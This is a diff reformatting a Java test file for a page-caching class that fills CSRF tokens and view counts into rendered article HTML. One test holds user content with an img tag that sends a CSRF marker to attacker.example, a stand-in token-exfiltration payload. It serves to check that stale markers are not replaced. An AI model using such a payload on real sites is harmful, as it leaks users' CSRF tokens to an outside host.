@@ -16,8 +16,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 class RenderedArticlePagesTests {
 
 	private static Ui ui(Locale locale, String token) {
-		return new Ui(new StaticMessageSource(), locale, ReaderMode.STANDARD, new DefaultCsrfToken("X-XSRF-TOKEN", "_csrf", token),
-				"/articles/1", "砚", null);
+		return new Ui(new StaticMessageSource(), locale, ReaderMode.STANDARD,
+				new DefaultCsrfToken("X-XSRF-TOKEN", "_csrf", token), "/articles/1", "砚", null);
 	}
 
 	@Test
@@ -33,7 +33,9 @@ class RenderedArticlePagesTests {
 		assertThat(new String(page, StandardCharsets.UTF_8)).isEqualTo(
 				"<p>阅读 1.2万</p><form><input value=\"tok-A\"></form><span>7 次分享</span><form><input value=\"tok-A\"></form>");
 		byte[] other = RenderedArticlePages.fill(cut, ui(Locale.SIMPLIFIED_CHINESE, "tok-B"), new Counts(3, 0));
-		assertThat(new String(other, StandardCharsets.UTF_8)).contains("阅读 3<").contains("tok-B").doesNotContain("tok-A");
+		assertThat(new String(other, StandardCharsets.UTF_8)).contains("阅读 3<")
+			.contains("tok-B")
+			.doesNotContain("tok-A");
 	}
 
 	@Test
@@ -41,7 +43,8 @@ class RenderedArticlePagesTests {
 		RenderedArticlePages.Markers markers = RenderedArticlePages.Markers.fresh();
 		Ui marker = ui(Locale.ENGLISH, markers.csrf());
 		RenderedArticlePages.Cut cut = RenderedArticlePages.cut("<p>静夜思</p>", marker, markers);
-		assertThat(new String(RenderedArticlePages.fill(cut, ui(Locale.ENGLISH, "t"), new Counts(1, 1)), StandardCharsets.UTF_8))
+		assertThat(new String(RenderedArticlePages.fill(cut, ui(Locale.ENGLISH, "t"), new Counts(1, 1)),
+				StandardCharsets.UTF_8))
 			.isEqualTo("<p>静夜思</p>");
 	}
 
@@ -51,13 +54,15 @@ class RenderedArticlePagesTests {
 		RenderedArticlePages.Markers now = RenderedArticlePages.Markers.fresh();
 		assertThat(now.csrf()).isNotEqualTo(earlier.csrf()).hasSizeGreaterThanOrEqualTo(33);
 		Ui marker = ui(Locale.SIMPLIFIED_CHINESE, now.csrf());
-		// user content that copies an earlier render's markers (or the old fixed one) stays as written
-		String content = "<img src=\"https://attacker.example/p.png?t=" + earlier.csrf() + "&u=inkstone-csrf-hole-5d1f0c3a\">"
-				+ marker.count(earlier.reads());
+		// user content that copies an earlier render's markers (or the old fixed one)
+		// stays as written
+		String content = "<img src=\"https://attacker.example/p.png?t=" + earlier.csrf()
+				+ "&u=inkstone-csrf-hole-5d1f0c3a\">" + marker.count(earlier.reads());
 		String html = content + "<input value=\"" + now.csrf() + "\">";
 		RenderedArticlePages.Cut cut = RenderedArticlePages.cut(html, marker, now);
 		assertThat(cut.holes()).containsExactly(RenderedArticlePages.Hole.CSRF);
-		String page = new String(RenderedArticlePages.fill(cut, ui(Locale.SIMPLIFIED_CHINESE, "tok-A"), new Counts(1, 1)),
+		String page = new String(
+				RenderedArticlePages.fill(cut, ui(Locale.SIMPLIFIED_CHINESE, "tok-A"), new Counts(1, 1)),
 				StandardCharsets.UTF_8);
 		assertThat(page).isEqualTo(content + "<input value=\"tok-A\">");
 	}
